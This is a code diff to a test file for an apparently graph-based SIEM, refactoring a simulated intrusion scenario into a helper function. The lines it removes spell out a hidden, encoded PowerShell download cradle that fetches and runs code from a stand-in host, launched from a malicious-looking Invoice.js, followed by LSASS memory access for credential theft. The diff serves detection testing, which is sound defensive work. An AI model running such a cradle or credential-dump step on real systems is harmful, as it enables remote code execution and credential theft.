@@ -18,6 +18,7 @@ from graphsiem.model import Relation, Sighting
 from graphsiem.simulator import DEFAULT_SCENARIOS
 from graphsiem.store.base import EntityPrevalence
 from tests.analytics.clock_behind import detect_with_one_host_behind
+from tests.analytics.cradle_steps import cradle_steps
 
 HOUR = 3600.0
 START = 1_000_000.0
@@ -65,14 +66,7 @@ pivot: {type: domain, value: img-thumbs-edge.example}
 activities:
   - schedule: {every: once, day: last, at: "10:00", spread_minutes: 20}
     steps:
-      - {action: process, parent: explorer, image: 'C:\Windows\System32\wscript.exe', command_line: '"C:\Windows\System32\WScript.exe" "C:\Users\{{user}}\Downloads\Invoice.js"', indicator: false}
-      - action: process
-        image: 'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe'
-        command_line: 'powershell.exe -nop -w hidden -enc {{encoded}}'
-        encoded_command: "IEX (New-Object Net.WebClient).DownloadString('http://img-thumbs-edge.example/i/logo.png')"
-      - {action: download, url: 'http://img-thumbs-edge.example/i/logo.png', content: logo.png loader, size: 500000}
-      - {action: lsass_access, granted_access: '0x1010'}
-"""
+""" + cradle_steps("http://img-thumbs-edge.example/i/logo.png")
 
 
 def test_six_host_campaign_keeps_its_behaviours_with_one_host_thirty_hours_behind(tmp_path):
